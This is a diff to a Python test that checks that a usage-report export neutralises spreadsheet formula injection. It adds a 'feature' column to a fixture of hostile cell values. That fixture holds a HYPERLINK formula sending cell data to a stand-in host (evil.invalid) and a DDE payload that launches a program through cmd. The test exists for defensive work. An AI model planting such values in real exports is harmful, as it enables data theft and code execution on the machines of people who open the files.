@@ -21,6 +21,7 @@ HOSTILE = {
     "team": '=HYPERLINK("http://evil.invalid/?leak="&A1,"click")',
     "user_id": "@SUM(1+1)*cmd|' /C calc'!A0",
     "workflow": "+1+1",
+    "feature": "=1+2",
     "task_type": "\t=1+1",
     "model": "\r=2+5",
 }
@@ -42,8 +43,9 @@ def hostile_warehouse(tmp_path, monkeypatch):
             values = {c: None for c in columns}
             values.update(
                 usage_date=usage_date, client="acme", team="search", user_id="u9",
-                workflow="docs-qa", task_type="rag", provider="openai", model="gpt-4o",
-                service_tier="standard", requests=1, successful_requests=1,
+                workflow="docs-qa", feature="answer-search", task_type="rag",
+                provider="openai", model="gpt-4o", service_tier="standard", requests=1,
+                successful_requests=1,
                 error_requests=0, timeout_requests=0, rate_limited_requests=0,
                 cancelled_requests=0, unpriced_requests=0, input_tokens=10,
                 uncached_input_tokens=10, cache_read_tokens=0, cache_write_tokens=0,
@@ -87,6 +89,7 @@ def test_hostile_names_come_out_as_text(hostile_warehouse):
         ("by_user", "user_id"),
         ("by_workflow", "workflow"),
         ("by_workflow", "task_type"),
+        ("by_feature", "feature"),
         ("by_model", "model"),
     ]:
         # the exact name, behind the quote that makes a spreadsheet show it as text
